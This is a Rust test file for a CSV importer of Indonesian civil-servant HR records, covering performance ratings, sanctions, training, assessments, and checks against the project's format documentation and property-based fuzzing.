const SKP_HEADER: &str = "nipBaru,tahun,hasilKinerja,perilakuKerja,kuadranKinerja,nilaiKinerjaPenguat,nipNrpPenilai,namaPenilai";

#[test]
fn skp_predikat_comes_from_the_matrix() {
    let s: Skp = one(&format!(
        "{SKP_HEADER}\n{SITI},2025,Di atas ekspektasi,SESUAI_EKSPEKTASI,,87.5,,\n"
    ));
    assert_eq!(s.predikat, talenta_domain::Predikat::Baik);
    let s: Skp = one(&format!(
        "{SKP_HEADER}\n{SITI},2025,di_atas_ekspektasi,di_atas_ekspektasi,SANGAT BAIK,\"87,5\",196608011988031001,Budi\n"
    ));
    assert_eq!(s.predikat, talenta_domain::Predikat::SangatBaik);
    assert_eq!(s.nilai_penguat.map(Score::hundredths), Some(8750));
    assert_eq!(
        errors::<Skp>(&format!(
            "{SKP_HEADER}\n{SITI},1999,di_bawah_ekspektasi,di_atas_ekspektasi,Baik,101,123,\n{SITI},2025,sesuai_ekspektasi,cukup,Baik,,,\n"
        )),
        [
            "line 2, column 2 (tahun): value \"1999\": not a year: expected yyyy from 2000 to 2100",
            "line 2, column 5 (kuadranKinerja): value \"Baik\": not the predikat of hasilKinerja and perilakuKerja: expected butuh_perbaikan",
            "line 2, column 6 (nilaiKinerjaPenguat): value \"101\": outside 0-100: expected a score from 0 to 100",
            "line 2, column 7 (nipNrpPenilai): value \"123\": invalid NIP: wrong length: a NIP has 18 digits, found 3",
            "line 3, column 4 (perilakuKerja): value \"cukup\": \"cukup\" is not a rating (expected di_atas_ekspektasi, sesuai_ekspektasi or di_bawah_ekspektasi, or their labels)",
        ]
    );
}

const HUKDIS_HEADER: &str =
    "nipBaru,jenisHukuman,hukumanTanggal,akhirHukumTanggal,skNomor,skTanggal,alasanHukumanDisiplin";

#[test]
fn a_blank_end_of_sanction_is_computed() {
    let akhir = |jenis: &str, mulai: &str| {
        one::<RiwayatHukdis>(&format!("{HUKDIS_HEADER}\n{SITI},{jenis},{mulai},,,,\n")).akhir
    };
    assert_eq!(
        akhir("pemotongan_tukin_6_bulan", "01-01-2026"),
        Some(date(2026, 6, 30))
    );
    assert_eq!(
        akhir(
            "Penurunan jabatan setingkat lebih rendah selama 12 bulan",
            "15-03-2025"
        ),
        Some(date(2026, 3, 14))
    );
    assert_eq!(
        akhir("teguran_lisan", "2026-02-10"),
        Some(date(2026, 2, 10))
    );
    assert_eq!(akhir("pemberhentian_dengan_hormat", "2026-02-10"), None);
    // A given end is kept, even one the length would not give.
    let given = one::<RiwayatHukdis>(&format!(
        "{HUKDIS_HEADER}\n{SITI},pemotongan_tukin_6_bulan,01-01-2026,31-12-2026,,,\n"
    ));
    assert_eq!(given.akhir, Some(date(2026, 12, 31)));
    assert_eq!(
        errors::<RiwayatHukdis>(&format!(
            "{HUKDIS_HEADER}\n{SITI},skorsing,01-01-2026,,,,\n{SITI},teguran_lisan,01-01-2026,31-12-2025,,,\n"
        )),
        [
            "line 2, column 2 (jenisHukuman): value \"skorsing\": \"skorsing\" is not a jenis hukuman disiplin (expected one of: teguran_lisan, teguran_tertulis, pernyataan_tidak_puas_tertulis, pemotongan_tukin_6_bulan, pemotongan_tukin_9_bulan, pemotongan_tukin_12_bulan, penurunan_jabatan_12_bulan, pembebasan_jabatan_12_bulan, pemberhentian_dengan_hormat, or the label)",
            "line 3, column 4 (akhirHukumTanggal): value \"31-12-2025\": before hukumanTanggal 2026-01-01: expected the same day or later",
        ]
    );
}

#[test]
fn histories_check_their_own_values() {
    assert_eq!(
        errors::<RiwayatDiklat>(&format!(
            "nipBaru,namaDiklat,tanggalMulai,tanggalSelesai,jenisDiklat,jumlahJam,penyelenggara\n{SITI},Latsar,10-05-2024,09-05-2024,teknis,-3,\n"
        )),
        [
            "line 2, column 4 (tanggalSelesai): value \"09-05-2024\": before tanggalMulai 2024-05-10: expected the same day or later",
            "line 2, column 6 (jumlahJam): value \"-3\": expected a whole number from 0 to 65535",
        ]
    );
    assert_eq!(
        errors::<RiwayatPendidikan>(&format!("nipBaru,tkPendidikan,tahunLulus\n{SITI},S1,07\n")),
        [
            "line 2, column 3 (tahunLulus): value \"07\": not a year: expected yyyy from 1900 to 2100"
        ]
    );
    // The golongan says which kind of number the NIP is.
    let header = "nipBaru,tmtGolongan,golongan";
    let g: RiwayatGolongan = one(&format!("{header}\n{PPPK},01-04-2025,IX\n"));
    assert_eq!(g.nip.kind(), AsnKind::Pppk);
    assert_eq!(
        errors::<RiwayatGolongan>(&format!("{header}\n{PPPK},01-04-2025,III/a\n")),
        [
            "line 2, column 1 (nipBaru): value \"198209212025211088\": invalid NIP: TMT CPNS month (digits 13-14) \"21\" is not a month 01-12"
        ]
    );
}

const ASESMEN_HEADER: &str = "nipBaru,tanggal,sumber,nilaiPotensi,integritas,kerjaSama,komunikasi,orientasiPadaHasil,pelayananPublik,pengembanganDiri,mengelolaPerubahan,pengambilanKeputusan,perekatBangsa";

#[test]
fn asesmen_needs_potensi_or_levels() {
    let a: Asesmen = one(&format!(
        "{ASESMEN_HEADER}\n{SITI},2025-10-01,Assessment Center,72.5,,,,,,,,,\n"
    ));
    assert_eq!(a.sumber, SumberAsesmen::AssessmentCenter);
    assert!(a.kompetensi.is_empty());
    let a: Asesmen = one(&format!(
        "{ASESMEN_HEADER}\n{SITI},2025-10-01,cact,,3,3,3,3,3,3,3,3,3\n"
    ));
    assert_eq!(a.kompetensi, all_nine(3));
    assert_eq!(
        errors::<Asesmen>(&format!(
            "{ASESMEN_HEADER}\n{SITI},2025-10-01,cact,,,,,,,,,,\n{SITI},2025-10-01,ujian,80,3,3,3,3,3,3,3,3,\n"
        )),
        [
            "line 2, column 4 (nilaiPotensi): value \"\": missing value: give nilaiPotensi, the nine competency levels, or both",
            "line 3, column 3 (sumber): value \"ujian\": \"ujian\" is not a sumber asesmen (expected cact, proasn, assessment_center or lainnya)",
            "line 3, column 13 (perekatBangsa): value \"\": missing value: give all nine competency levels or none",
        ]
    );
}

// ---------------------------------------------------------------------------
// Keys and references

#[test]
fn keys_and_references_follow_the_table() {
    let p = siti(None);
    assert_eq!(p.key(), SITI);
    assert_eq!(
        p.references(),
        [Reference {
            column: 12,
            target: Target::Opd,
            code: "DINKES".into()
        }]
    );
    let with_jabatan = Pegawai {
        jabatan: Some("KADIS".into()),
        ..siti(None)
    };
    assert_eq!(
        with_jabatan
            .references()
            .iter()
            .map(|r| (Pegawai::COLUMNS[r.column].name, r.target))
            .collect::<Vec<_>>(),
        [("unorId", Target::Opd), ("jabatanId", Target::Jabatan)]
    );
    let r = RiwayatJabatan {
        jabatan: Some("KADIS".into()),
        opd: Some("DINKES".into()),
        ..records::riwayat_jabatan(
            nip(SITI),
            date(2024, 1, 2),
            "Kepala Dinas",
            Jenjang::JptPratama,
        )
    };
    assert_eq!(r.key(), (SITI.to_owned(), date(2024, 1, 2)));
    assert_eq!(
        r.references()
            .iter()
            .map(|r| (
                RiwayatJabatan::COLUMNS[r.column].name,
                r.target,
                r.code.as_str()
            ))
            .collect::<Vec<_>>(),
        [
            ("nipBaru", Target::Pegawai, SITI),
            ("jabatanId", Target::Jabatan, "KADIS"),
            ("unorId", Target::Opd, "DINKES"),
        ]
    );
    let opd = Opd {
        kode: "YANKES".into(),
        nama: "Bidang".into(),
        induk: Some("DINKES".into()),
    };
    assert_eq!(
        opd.references()
            .iter()
            .map(|r| (Opd::COLUMNS[r.column].name, r.target))
            .collect::<Vec<_>>(),
        [("unorIndukId", Target::Opd)]
    );
}

// ---------------------------------------------------------------------------
// The contract: docs/formats.md

fn formats_md() -> String {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/formats.md");
    std::fs::read_to_string(path).unwrap()
}

/// The rows of the first table after the line `heading`, as cells.
fn table_after(doc: &str, heading: &str) -> Vec<Vec<String>> {
    let start = doc
        .lines()
        .position(|l| l == heading || l.starts_with(&format!("{heading}:")))
        .unwrap_or_else(|| panic!("no section {heading:?} in docs/formats.md"));
    doc.lines()
        .skip(start + 1)
        .skip_while(|l| !l.starts_with('|'))
        .take_while(|l| l.starts_with('|'))
        .skip(2) // header and separator
        .map(|l| {
            // `\|` inside a cell is a literal bar, not a cell boundary.
            l.replace("\\|", "\u{0}")
                .trim_matches('|')
                .split('|')
                .map(|c| c.trim().replace('\u{0}', "|"))
                .collect()
        })
        .collect()
}

/// The names in backticks in a cell.
fn backticked(cell: &str) -> Vec<String> {
    cell.split('`')
        .skip(1)
        .step_by(2)
        .map(str::to_owned)
        .collect()
}

/// The columns a section's table lists, with whether each is required. A
/// cell `` `a` … `b` `` stands for the columns from a to b of the `jabatan`
/// table (the competencies).
fn documented_columns(doc: &str, kind: Kind) -> Vec<(String, bool)> {
    let jabatan: Vec<String> = table_after(doc, "### `jabatan`")
        .iter()
        .flat_map(|row| backticked(&row[0]))
        .collect();
    let mut columns = Vec::new();
    for row in table_after(doc, &format!("### `{}`", kind.name())) {
        let required = match row[1].as_str() {
            "yes" => true,
            "no" => false,
            other => panic!("{kind}: required is {other:?}"),
        };
        let names = backticked(&row[0]);
        let names = if row[0].contains('…') {
            let from = jabatan.iter().position(|n| *n == names[0]).unwrap();
            let to = jabatan.iter().position(|n| *n == names[1]).unwrap();
            jabatan[from..=to].to_vec()
        } else {
            names
        };
        columns.extend(names.into_iter().map(|n| (n, required)));
    }
    columns
}

#[test]
fn columns_are_the_documented_columns() {
    let doc = formats_md();
    for kind in Kind::ALL {
        let code: Vec<(String, bool)> = kind
            .columns()
            .iter()
            .map(|c| (c.name.to_owned(), c.required))
            .collect();
        assert_eq!(code, documented_columns(&doc, kind), "{kind}");
    }
}

#[test]
fn column_maxima_are_the_documented_ones() {
    let doc = formats_md();
    let mut listed: BTreeMap<String, usize> = BTreeMap::new();
    let mut others = None;
    for row in table_after(&doc, "## Lengths and characters") {
        let max: usize = row[0].parse().unwrap();
        if row[1] == "every other column" {
            others = Some(max);
        }
        for name in backticked(&row[1]) {
            assert!(listed.insert(name.clone(), max).is_none(), "{name} twice");
        }
    }
    let others = others.unwrap();
    for kind in Kind::ALL {
        for column in kind.columns() {
            let name = format!("{kind}.{}", column.name);
            let documented = listed.remove(&name).unwrap_or(others);
            assert_eq!(column.max, documented, "{name}");
            // A spreadsheet cell holds 32,767 characters.
            assert!(column.max < 32_767, "{name}");
        }
    }
    assert!(listed.is_empty(), "no such columns: {listed:?}");
}

#[test]
fn kinds_keys_and_order_are_the_documented_ones() {
    let doc = formats_md();
    let table = table_after(&doc, "## Kinds, in dependency order");
    let documented: Vec<String> = table
        .iter()
        .map(|row| backticked(&row[0])[0].clone())
        .collect();
    let names: Vec<&str> = Kind::ALL.iter().map(|k| k.name()).collect();
    assert_eq!(documented, names);
    for (kind, row) in Kind::ALL.iter().zip(&table) {
        for key in backticked(&row[1]) {
            assert!(
                kind.columns().iter().any(|c| c.name == key && c.required),
                "{kind}: key column {key} is not a required column"
            );
        }
    }
}

#[test]
fn each_type_is_its_kind() {
    for kind in Kind::ALL {
        let (of_type, columns) = talenta_ingest::with_kind!(kind, K => (K::KIND, K::COLUMNS));
        assert_eq!(of_type, kind);
        assert_eq!(columns, kind.columns());
    }
    // Skipping the instansi, the dispatch serves every other kind.
    for kind in Kind::ALL {
        let served = talenta_ingest::with_kind!(kind, K => Some(K::KIND), Instansi => None);
        assert_eq!(served, (kind != Kind::Instansi).then_some(kind));
    }
}

/// The CSV examples in the document import: the contract's own examples
/// are valid.
#[test]
fn documented_examples_parse() {
    let doc = formats_md();
    let mut examples = BTreeMap::new();
    let mut section = None;
    let mut lines = doc.lines();
    while let Some(line) = lines.next() {
        if let Some(rest) = line.strip_prefix("### `") {
            section = rest.split('`').next().map(str::to_owned);
        }
        if line == "```csv" {
            let block: Vec<&str> = lines.by_ref().take_while(|l| *l != "```").collect();
            examples.insert(section.clone().unwrap(), block.join("\n") + "\n");
        }
    }
    assert_eq!(
        examples.keys().map(String::as_str).collect::<Vec<_>>(),
        ["instansi", "jabatan", "opd", "pegawai"]
    );
    fn accepted<K: RecordKind + Debug>(text: &str) -> usize {
        parse_all::<K>(text).into_iter().map(Result::unwrap).count()
    }
    let rows = |kind: &str| examples[kind].lines().count() - 1;
    assert_eq!(
        accepted::<Instansi>(&examples["instansi"]),
        rows("instansi")
    );
    assert_eq!(accepted::<Opd>(&examples["opd"]), rows("opd"));
    assert_eq!(accepted::<Jabatan>(&examples["jabatan"]), rows("jabatan"));
    let pegawai = parse_all::<Pegawai>(&examples["pegawai"]);
    assert_eq!(pegawai.len(), 1);
    let siti = pegawai.into_iter().next().unwrap().unwrap();
    assert_eq!(siti.tanggal_lahir, date(1985, 3, 15));
    assert_eq!(siti.golongan, Some(GolonganAsn::Pns(Golongan::IVA)));
}

// ---------------------------------------------------------------------------
// Arbitrary rows

/// Near-valid values: digits, dates, codes and separators in any mix.
fn any_cell() -> impl Strategy<Value = String> {
    prop_oneof![
        Just(String::new()),
        "[0-9]{1,18}",
        "[0-9]{1,2}[-/][0-9]{1,2}[-/][0-9]{2,4}",
        "[a-zA-Z_ /|]{1,12}",
        "[0-9IVX/a-e.,+-]{1,6}",
    ]
}

/// Every row under a kind's full header is a record or located errors,
/// never a panic.
fn survives<K: RecordKind>(rows: &[Vec<String>]) -> Result<(), TestCaseError> {
    let mut text: String = K::COLUMNS
        .iter()
        .map(|c| c.name)
        .collect::<Vec<_>>()
        .join(",");
    text.push('\n');
    for row in rows {
        let cells: Vec<String> = row.iter().map(|c| format!("\"{c}\"")).collect();
        text.push_str(&cells.join(","));
        text.push('\n');
    }
    for parsed in parse_all::<K>(&text) {
        if let Err(errors) = parsed {
            prop_assert!(!errors.is_empty());
            for e in errors {
                prop_assert!((1..=K::COLUMNS.len()).contains(&e.column), "{e}");
            }
        }
    }
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn arbitrary_rows_are_records_or_located_errors(
        rows in proptest::collection::vec(proptest::collection::vec(any_cell(), 21), 1..6)
    ) {
        survives::<Instansi>(&rows)?;
        survives::<Opd>(&rows)?;
        survives::<Jabatan>(&rows)?;
        survives::<Pegawai>(&rows)?;
        survives::<RiwayatJabatan>(&rows)?;
        survives::<RiwayatGolongan>(&rows)?;
        survives::<RiwayatPendidikan>(&rows)?;
        survives::<RiwayatDiklat>(&rows)?;
        survives::<RiwayatPenghargaan>(&rows)?;
        survives::<RiwayatHukdis>(&rows)?;
        survives::<Skp>(&rows)?;
        survives::<Asesmen>(&rows)?;
    }
}

/// The columns docs/formats.md lists as numbers ("Formulas in CSV files")
/// are the kinds' number columns, and no other kind column is one.
#[test]
fn number_columns_are_the_documented_ones() {
    let doc = formats_md();
    let paragraph = doc
        .split("\n\n")
        .find(|p| p.starts_with("Number columns are written"))
        .unwrap();
    let mut documented = backticked(paragraph);
    let jabatan: Vec<String> = table_after(&doc, "### `jabatan`")
        .iter()
        .flat_map(|row| backticked(&row[0]))
        .collect();
    let from = jabatan.iter().position(|n| n == "integritas").unwrap();
    let to = jabatan.iter().position(|n| n == "perekatBangsa").unwrap();
    documented.extend(jabatan[from..=to].iter().cloned());
    for kind in Kind::ALL {
        for column in kind.columns() {
            assert_eq!(
                column.cell == Cell::Number,
                documented.iter().any(|d| d == column.name),
                "{kind}: {}",
                column.name
            );
        }
    }
}
